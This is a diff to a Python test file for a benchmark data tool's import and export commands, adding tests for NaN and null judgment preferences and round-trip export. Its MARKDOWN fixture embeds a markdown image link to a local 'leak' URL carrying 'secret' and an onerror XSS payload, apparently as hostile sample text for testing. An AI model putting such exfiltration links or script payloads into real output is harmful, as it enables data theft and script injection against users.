@@ -242,6 +242,10 @@ def test_a_bad_label_row_is_reported_and_nothing_is_written(fault, small, folder
     assert not Item.objects.exists()
 
 
+MARKDOWN = (
+    "# Head\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1)\n```\n\nInline $x^2$ and \\(a+b\\). "
+    "![leak](http://127.0.0.1:9/leak.png?q=secret) <img src=x onerror=alert(1)>\n"
+)
 JUDGMENT = {"kind": "pair", "protocol": "pairwise-criteria", "sample": "a", "responses": ["m1", "m2"], "judge": "j"}
 
 
@@ -268,6 +272,19 @@ def test_a_judgment_without_verdict_needs_a_status_that_says_why(small, folder, 
     assert err.count("status ok goes with a verdict") == 2
 
 
+def test_a_preference_of_nan_is_refused_by_line_and_one_that_is_null_stays_a_failure_with_its_reason(
+    small, folder, manage, tmp_path
+):
+    why = {"choice": None, "status": "parse_failed", "reason": "null preference"}
+    rows = [JUDGMENT | why, JUDGMENT | {"protocol": "pair-graded", "sample": "b", "preference": float("nan")}]
+    status, _, err = manage("import_judgments", "generic", folder("two", rows), "--benchmark", "small")
+    assert (status, Judgment.objects.count()) == (1, 0)
+    assert "two.jsonl, line 2: NaN is not JSON" in err
+    assert manage("import_judgments", "generic", folder("one", rows[:1]), "--benchmark", "small")[0] == 0
+    stored = Judgment.objects.get()
+    assert (stored.choice, stored.status, stored.reason) == (None, "parse_failed", "null preference")
+
+
 @pytest.mark.parametrize("shape", ["jsonl", "csv", "parquet"])
 @pytest.mark.check("C12")
 def test_what_is_exported_imports_again_unchanged(shape, small, folder, manage, tmp_path, media):
@@ -277,7 +294,15 @@ def test_what_is_exported_imports_again_unchanged(shape, small, folder, manage, 
         {"kind": "batch", "sample": "b", "responses": ["m1", "m2", "m3"], "annotator": "ann"}
         | {"ranking": [["m3"], ["m1", "m2"]]},
     ]
-    judged = [JUDGMENT | {"choice": "first", "raw": "+1\nAnswer1", "analysis": "'quoted", "prompt_tokens": 5}]
+    judged = [
+        JUDGMENT | {"choice": "first", "raw": "+1\nAnswer1", "analysis": "'quoted", "prompt_tokens": 5},
+        JUDGMENT | {"sample": "b", "status": "parse_failed", "reason": "null preference", "raw": "null"},
+    ]
+    answers = [
+        {"sample": "a", "model": "m4", "text": MARKDOWN},
+        {"sample": "b", "model": "m4", "text": "", "status": "empty"},
+    ]
+    assert manage("import_responses", "generic", folder("more", answers), "--benchmark", "small")[0] == 0
     assert manage("import_labels", "generic", folder("labels", odd), "--benchmark", "small")[0] == 0
     assert manage("import_judgments", "generic", folder("judgments", judged), "--benchmark", "small")[0] == 0
     before = counts()
